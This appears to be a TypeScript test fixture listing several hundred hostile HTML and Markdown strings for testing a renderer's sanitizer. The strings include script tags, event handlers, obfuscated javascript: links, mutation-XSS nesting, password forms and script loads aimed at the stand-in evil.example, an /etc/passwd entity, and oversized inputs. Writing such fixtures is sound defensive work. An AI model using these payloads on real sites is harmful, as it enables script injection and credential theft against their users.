/**
 * Hostile markup: what people have tried to get a script, a request, a link or a shape of their own into other people's pages.
 * Each calls `pwn()` where it could run, and asks evil.example where it could load. Only texts; who sends and shows them is the test's affair.
 */

/** Elements and attributes that run, load, or take over a page. */
const HTML = String.raw`
<script>pwn()</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script src=//evil.example/x.js></script>
<script type=module>pwn()</script>
<script/x>pwn()</script>
<scr<script>ipt>pwn()</scr</script>ipt>
<<script>pwn()//<</script>
<script>pwn()
<script>"</script>"<img src=x onerror=pwn()>
<script><!--<script>pwn()</script>
<script>document.write('<img src=x onerror=pwn()>')</script>
<img src=x onerror=pwn()>
<img src=x onerror=pwn()//
<img/src=x/onerror=pwn()>
<img src="x"onerror="pwn()">
<img src=x:x onerror=pwn&lpar;&rpar;>
<img src=x onerror="&#112;wn()">
<img src=x OnErRoR=pwn()>
<IMG """><SCRIPT>pwn()</SCRIPT>">
<img src='x' onerror='pwn()' alt='a
<img src=https://evil.example/pixel.gif>
<img srcset="https://evil.example/a 1x, https://evil.example/b 2x">
<img src=x longdesc="javascript:pwn()">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>">
<img lowsrc=https://evil.example/ dynsrc=https://evil.example/>
<image src=x onerror=pwn()>
<picture><source srcset=https://evil.example/a><img onerror=pwn() src=x></picture>
<svg onload=pwn()>
<svg/onload=pwn()//
<svg><script>pwn()</script></svg>
<svg><script href=https://evil.example/x.js></script>
<svg><script>&#112;wn()</script></svg>
<svg><style><img src=x onerror=pwn()></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=pwn()>">
<svg><animate onbegin=pwn() attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:pwn()>
<svg><a xlink:href="javascript:pwn()"><text y=9>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:pwn() /><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:pwn()'/></svg>#x">
<svg><image href=https://evil.example/a.png></svg>
<svg><foreignObject><iframe src=javascript:pwn()></iframe></foreignObject></svg>
<svg><desc><template><img src=x onerror=pwn()></template></desc></svg>
<svg><title><a id="</title><img src=x onerror=pwn()>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">
<math><mi//xlink:href="data:x,<script>pwn()</script>">
<math href="javascript:pwn()">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:pwn()">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>
<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror='pwn()'>"></style></h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn() src>">
<a href="javascript:pwn()">x</a>
<a href="JaVaScRiPt:pwn()">x</a>
<a href=" javascript:pwn()">x</a>
<a href="jav&#x09;ascript:pwn()">x</a>
<a href="jav&#10;ascript:pwn()">x</a>
<a href="&#106;avascript:pwn()">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;pwn()">x</a>
<a href="javascript&colon;pwn()">x</a>
<a href="javascript://evil.example/%0apwn()">x</a>
<a href="&#1;javascript:pwn()">x</a>
<a href="view-source:javascript:pwn()">x</a>
<a href="feed:javascript:pwn()">x</a>
<a href="data:text/html,<script>pwn()</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://evil.example/1">x</a>
<a href="filesystem:http://evil.example/a">x</a>
<a href="file:///etc/passwd">x</a>
<a href="ms-settings:">x</a>
<a href="intent://evil.example#Intent;end">x</a>
<a href="//evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="/\evil.example">x</a>
<a href='https://a.example/" onmouseover="pwn()'>x</a>
<a href="https://a.example/)[x](javascript:pwn()">x</a>
<a href="https://a.example">](javascript:pwn())</a>
<a href="https://a.example"><a href="javascript:pwn()">x</a></a>
<a href="https://user:secret@evil.example">bank.example</a>
<a href="https://evil.example" target=_top ping=https://evil.example/ping download>x</a>
<a href="https://evil.example" style="position:fixed;inset:0">x</a>
<a name=body id=cookie href=https://evil.example>x</a>
<a href=https://a.example onclick=pwn()>x</a>
<a href=javascript:pwn()//https://a.example>https://a.example</a>
<area href=javascript:pwn()><map name=x><area shape=default href=javascript:pwn()></map>
<iframe src="javascript:pwn()"></iframe>
<iframe srcdoc="<script>parent.pwn()</script>">
<iframe src=https://evil.example/></iframe>
<iframe/src="data:text/html,<script>parent.pwn()</script>">
<iframe onload=pwn()>
<frameset onload=pwn()><frame src=javascript:pwn()></frameset>
<object data="javascript:pwn()"></object>
<object data=https://evil.example/ type=text/html></object>
<embed src="javascript:pwn()">
<embed src=https://evil.example/x.swf allowscriptaccess=always>
<applet code=Evil codebase=https://evil.example/></applet>
<portal src=https://evil.example/></portal>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:pwn()">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=prefetch href=https://evil.example/><link rel=dns-prefetch href=//evil.example>
<link rel=import href="data:text/html,<script>pwn()</script>">
<style>@import "https://evil.example/x.css";</style>
<style>*{background:url(https://evil.example/)}</style>
<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>
<style>*{display:none}</style>
<style><img src="</style><img src=x onerror=pwn()//">
<div style="background:url(javascript:pwn())">x</div>
<div style="background-image:url(https://evil.example/)">x</div>
<div style="width:expression(pwn())">x</div>
<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>
<div style="position:fixed;inset:0;z-index:9999;background:red">all yours</div>
<div style="behavior:url(https://evil.example/x.htc)">x</div>
<font style="color:red;background:url(https://evil.example/)" face="x" size=7>x</font>
<table background="https://evil.example/"><td background=javascript:pwn() onclick=pwn()>x
<body onload=pwn() background=https://evil.example/>
<body onscroll=pwn()><br><br><input autofocus>
<html manifest=https://evil.example/ onmousemove=pwn()>
<input autofocus onfocus=pwn()>
<input type=image src=https://evil.example/ formaction=javascript:pwn()>
<form action=https://evil.example/><input type=password name=p><button>sign in</button></form>
<form id=x></form><button form=x formaction=javascript:pwn()>x</button>
<button onclick=pwn() autofocus onfocus=pwn()>x</button>
<select onfocus=pwn() autofocus></select>
<select><template><img src=x onerror=pwn()></template></select>
<textarea onfocus=pwn() autofocus></textarea>
<textarea><img src=x onerror=pwn()></textarea>
</textarea><script>pwn()</script>
<isindex action=javascript:pwn() type=submit value=x>
<keygen autofocus onfocus=pwn()>
<details open ontoggle=pwn()>x
<dialog open onclose=pwn()><form method=dialog><button>x</button></form></dialog>
<div popover id=x onbeforetoggle=pwn()>x</div><button popovertarget=x>x</button>
<marquee onstart=pwn()>x</marquee>
<video><source onerror=pwn()></video>
<video src=https://evil.example/ autoplay poster=https://evil.example/></video>
<video onloadstart=pwn() src=x></video>
<audio src=x onerror=pwn()></audio>
<audio src=https://evil.example/ autoplay></audio>
<track src=https://evil.example/ default>
<div onpointerover=pwn() onmouseenter=pwn() onclick=pwn() ondrag=pwn()>x</div>
<div tabindex=1 autofocus onfocus=pwn()>x</div>
<div contenteditable onblur=pwn()>x</div>
<div style=animation-name:x onanimationstart=pwn()>x</div>
<p onclick=pwn() class=message id=x dir=rtl lang=x title=x>x
<b onmouseover=pwn()>x</b><i onclick=pwn()>x</i><u oncopy=pwn()>x</u>
<xss onclick=pwn() autofocus tabindex=1 onfocus=pwn()>x</xss>
<custom-element onclick=pwn()>x</custom-element>
<chat-room src=https://evil.example/></chat-room>
<slot name=x onslotchange=pwn()></slot>
<template><img src=x onerror=pwn()></template>
<div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>
<template><s><template></s><img src=x onerror=pwn()></template></template>
<title></title><img src=x onerror=pwn()></title>
<noscript><p title="</noscript><img src=x onerror=pwn()>">
<noscript><img src=x onerror=pwn()></noscript>
<noembed><p title="</noembed><img src=x onerror=pwn()>">
<noframes><p title="</noframes><img src=x onerror=pwn()>">
<xmp><p title="</xmp><img src=x onerror=pwn()>">
<plaintext><img src=x onerror=pwn()>
<listing>&lt;img src=x onerror=pwn()&gt;</listing>
<!--><img src=x onerror=pwn()>-->
<!---><img src=x onerror=pwn()>-->
<!-- --!><img src=x onerror=pwn()> -->
<!--[if gte IE 4]><script>pwn()</script><![endif]-->
<![CDATA[<img src=x onerror=pwn()>]]>
<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>
<?xml <img src=x onerror=pwn()>?>
<?php echo '<script>pwn()</script>' ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<% <img src=x onerror=pwn()> %>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwn()</x:script>
<img src=x onerror=pwn() x=">
<b title="<img src=x onerror=pwn()>">x</b>
<b title='"><img src=x onerror=pwn()>'>x</b>
</div></div></p></main></body><img src=x onerror=pwn()>
</p><p></b></i><table><tr><td></table></td><img src=x onerror=pwn()>
<form id=document><input name=cookie></form>
<img name=getElementById><img id=body name=body><a id=pwned></a>
<form id=attributes><input name=parentNode><input name=attributes></form>
<a id=trustedTypes><a id=trustedTypes name=createPolicy>
<object name=customElements></object><embed name=fetch>
<b>&lt;script&gt;pwn()&lt;/script&gt;</b>
<b>[x](javascript:pwn())</b>
<b>![x](javascript:pwn())</b>
<b>&lt;javascript:pwn()&gt;</b>
<b>&amp;lt;img src=x onerror=pwn()&amp;gt;</b>
<code>&lt;/code&gt;&lt;script&gt;pwn()&lt;/script&gt;</code>
<pre>~~~&#10;&lt;script&gt;pwn()&lt;/script&gt;</pre>
<pre>&#96;&#96;&#96;&#10;&lt;img src=x onerror=pwn()&gt;&#10;&#96;&#96;&#96;&#10;&lt;img src=x onerror=pwn()&gt;</pre>
<ul><li><img src=x onerror=pwn()><li><a href=javascript:pwn()>x</ul>
<blockquote cite=javascript:pwn()><q cite=javascript:pwn()>x</q></blockquote>
<x-turndown id="turndown-root"></x-turndown><script>pwn()</script>
<b><i><u><a href="https://a.example"><b></i></u></b></a><p></b>x
`

/** Markdown that would be a script, a foreign load, a link that lies, or a shape that breaks the page. */
const MARKDOWN = String.raw`
[x](javascript:pwn())
[x](JAVASCRIPT:pwn())
[x]( javascript:pwn())
[x](<javascript:pwn()>)
[x](javascript&colon;pwn())
[x](&#106;avascript:pwn())
[x](&#x6A;avascript&#x3A;pwn())
[x](java\script:pwn())
[x](javascript%3Apwn())
[x](jav&Tab;ascript:pwn())
[x](jav&NewLine;ascript:pwn())
[x](&#1;javascript:pwn())
[x](javascript://evil.example/%0Apwn())
[x](javascript:pwn() "https://a.example")
[x](data:text/html,<script>pwn()</script>)
[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x](blob:https://evil.example/1)
[x](file:///etc/passwd)
[x](//evil.example)
[x](\\evil.example)
[x](/rooms/lobby)
[x](?room=other)
[x](#x)
[x](https:javascript:pwn())
[x](https://a.example" onmouseover="pwn())
[x](https://a.example "a" onmouseover="pwn()")
[x](https://a.example '"><img src=x onerror=pwn()>')
[x](https://a.example 'x" onclick="pwn()')
[x](<https://a.example/"><img src=x onerror=pwn()>>)
[x](https://a.example/<img src=x onerror=pwn()>)
[https://bank.example](https://evil.example)
[<img src=x onerror=pwn()>](https://a.example)
[![x](javascript:pwn())](javascript:pwn())
[![x](https://evil.example/a.png)](https://a.example)
![x](javascript:pwn())
![x](data:image/svg+xml,<svg/onload=pwn()>)
![x](https://evil.example/pixel.png)
![" onerror="pwn()](x)
![x](x" onerror="pwn())
![x](https://evil.example/a.png "x' onerror='pwn()")
![<img src=x onerror=pwn()>](https://a.example)
<javascript:pwn()>
<javascript:pwn()//@a.example>
<data:text/html,x>
<https://a.example/"onmouseover="pwn()">
<mailto:a@b.example" onclick="pwn()>
<https://a.example><script>pwn()</script>
https://a.example/"onmouseover="pwn()
https://a.example/'><img src=x onerror=pwn()>
https://a.example/<script>pwn()</script>
https://a.example/&quot;onclick=&quot;pwn()
https://a.example/**<img/src=x/onerror=pwn()>**
javascript://a.example/%0Apwn()
mailto:x@evil.example?body="><img src=x onerror=pwn()>
x"onclick="pwn()"@a.example
https://аррӏе.example xn--80ak6aa92e.example
[1]: javascript:pwn()
[x][1]
[x]: <javascript:pwn()> "t"
[^1]: <img src=x onerror=pwn()>
**<img src=x onerror=pwn()>**
*<svg/onload=pwn()>*
~~<script>pwn()</script>~~
++<iframe src=javascript:pwn()>++
**[x](javascript:pwn())**
***a **b *c** d* <b onclick=pwn()>***
${'`'}<img src=x onerror=pwn()>${'`'}
${'``'}</code><img src=x onerror=pwn()>${'``'}
${'`'}</code></pre><script>pwn()</script>
# <img src=x onerror=pwn()>
## [x](javascript:pwn()) {onclick=pwn()}
# x {#body .message onclick=pwn()}
- <img src=x onerror=pwn()>
1. [x](javascript:pwn())
99999999999999999999. <img src=x onerror=pwn()>
> <script>pwn()</script>
> > > - [x](javascript:pwn())
\<img src=x onerror=pwn()>
\\<img src=x onerror=pwn()>
\[x](javascript:pwn())
&lt;img src=x onerror=pwn()&gt;
&#60;img src=x onerror=pwn()&#62;
&#x3c;script&#x3e;pwn()&#x3c;/script&#x3e;
&lt;script&gt;pwn()&lt;/script&gt;
&amp;lt;script&amp;gt;pwn()
$\href{javascript:pwn()}{x}$
:smile:<img src=x onerror=pwn()>
@<img src=x onerror=pwn()>
{{constructor.constructor('pwn()')()}}
${'$'}{pwn()}
<%= pwn() %>
';pwn();'
"});pwn();({"
*/pwn()/*
</script><script>pwn()</script>
]]><img src=x onerror=pwn()>
--><img src=x onerror=pwn()>
+ADw-script+AD4-pwn()+ADw-/script+AD4-
%3Cscript%3Epwn()%3C/script%3E
\u003cscript\u003epwn()\u003c/script\u003e
＜script＞pwn()＜/script＞
‹script›pwn()‹/script›
`

/** What needs line ends, controls, or size to be what it is. */
const SHAPES: readonly string[] = [
  '```html" onclick="pwn()\n<img src=x onerror=pwn()>\n```',
  '```"><img src=x onerror=pwn()>\nx\n```',
  '```js\n</code></pre><script>pwn()</script>\n```',
  '```\n</code></pre><img src=x onerror=pwn()>',
  '~~~ class="x" style="position:fixed"\nx\n~~~',
  '    </code></pre><script>pwn()</script>',
  'a|b\n-|-\n<img src=x onerror=pwn()>|[x](javascript:pwn())',
  'a|b\n:-|-:\n" onclick="pwn()|</td></table><script>pwn()</script>',
  '|<svg onload=pwn()>|\n|:-:|\n|`|<img src=x onerror=pwn()>|`|',
  '<table><tr><td>\n\n[x](javascript:pwn())\n\n</td></tr></table>',
  '<div>\n\n**x**<img src=x onerror=pwn()>\n\n</div>',
  '[x]\n\n[x]: javascript:pwn()',
  '[x][y]\n\n[y]: data:text/html,<script>pwn()</script> "z"',
  '[x](java\nscript:pwn())',
  '[x](java\tscript:pwn())',
  '[x](\u0001javascript:pwn())',
  '[x](\u00a0javascript:pwn())',
  '[x](\u2028javascript:pwn())',
  '[x](java\u00adscript:pwn())',
  '[x](java\u200bscript:pwn())',
  '[x](java\u0000script:pwn())',
  '<a href="java\u0000script:pwn()">x</a>',
  '<a href="java\nscript:pwn()">x</a>',
  '<a href="\u2028javascript:pwn()">x</a>',
  '<a\u000bhref="javascript:pwn()">x</a>',
  '<img\u000csrc=x\u000conerror=pwn()>',
  '<script\n>pwn()</script\n>',
  '<img\r\nsrc=x\r\nonerror=pwn()\r\n>',
  '<\u0000img src=x onerror=pwn()>',
  '<im\u0000g src=x onerror=pwn()>',
  '<img src=x on\u0000error=pwn()>',
  '<scr\u0000ipt>pwn()</scr\u0000ipt>',
  '\u0000<script>pwn()</script>',
  '\ufeff<script>pwn()</script>',
  '<ſcript>pwn()</ſcript>',
  '<ımg src=x onerror=pwn()>',
  '\u2028<script>pwn()</script>\u2029',
  '"\u2028;pwn()//',
  "'\u2029;pwn()//",
  '\u202e<img src=x onerror=pwn()>\u202c',
  '\u202etxt.exe https://evil.example/\u202c',
  '\u2066\u2067\u202e'.repeat(500),
  'Z̷̡͙͆a̸l̶g̵o'.repeat(200),
  `a${'\u0301'.repeat(5000)}`,
  '\ud800<img src=x onerror=pwn()>\udfff',
  '<img src="\ud800" onerror=pwn()>',
  '<b>'.repeat(5000),
  `${'<div>'.repeat(3000)}<img src=x onerror=pwn()>`,
  `${'<svg><desc>'.repeat(500)}<img src=x onerror=pwn()>`,
  `${'<table><tr><td>'.repeat(500)}<img src=x onerror=pwn()>`,
  `${'<form>'.repeat(600)}<mglyph><style><img src=x onerror=pwn()>`,
  `${'> '.repeat(5000)}<img src=x onerror=pwn()>`,
  `${'- '.repeat(5000)}[x](javascript:pwn())`,
  `${'*'.repeat(8000)}<script>pwn()</script>${'*'.repeat(8000)}`,
  `${'['.repeat(5000)}x${'](javascript:pwn())'.repeat(500)}`,
  `${'**a '.repeat(2000)}<img src=x onerror=pwn()>`,
  `${'`'.repeat(300)}<img src=x onerror=pwn()>${'`'.repeat(299)}`,
  `${'&'.repeat(5000)}lt;script&gt;pwn()`,
  `<a ${'x '.repeat(5000)}href=javascript:pwn()>x</a>`,
  `<a href="javascript:${'a'.repeat(10_000)};pwn()">x</a>`,
  `[x](https://a.example/${'a'.repeat(10_000)})`,
  'x'.repeat(16_000),
  `${'\n'.repeat(8000)}x<img src=x onerror=pwn()>`,
  `<!--${'-'.repeat(10_000)}><script>pwn()</script>`,
]

/** Surroundings in which markup might be read otherwise. */
const CARRIERS: readonly ((hostile: string) => string)[] = [
  (hostile) => `**${hostile}**`,
  (hostile) => `> - 1. ${hostile}`,
  (hostile) => `a|b\n-|-\n${hostile}|x`,
  (hostile) => `[${hostile}](https://a.example)`,
  (hostile) => `<b>${hostile}</b>`,
  (hostile) => `<ul><li><a href="https://a.example">${hostile}</a></li></ul>`,
  (hostile) => `<pre>${hostile}</pre>`,
]

/** Those that every surrounding is tried with: one of each sort. */
const CARRIED: readonly string[] = [
  '<img src=x onerror=pwn()>',
  '<script>pwn()</script>',
  '<svg><style><img src=x onerror=pwn()></style></svg>',
  '<a href="javascript:pwn()">x</a>',
  '[x](javascript:pwn())',
  '![x](https://evil.example/a.png)',
  '</p></div><iframe srcdoc="<script>parent.pwn()</script>">',
]

const listed = (text: string): string[] => text.trim().split('\n')

export const HOSTILE: readonly string[] = [
  ...new Set([...listed(HTML), ...listed(MARKDOWN), ...SHAPES, ...CARRIED.flatMap((hostile) => CARRIERS.map((carry) => carry(hostile)))]),
]
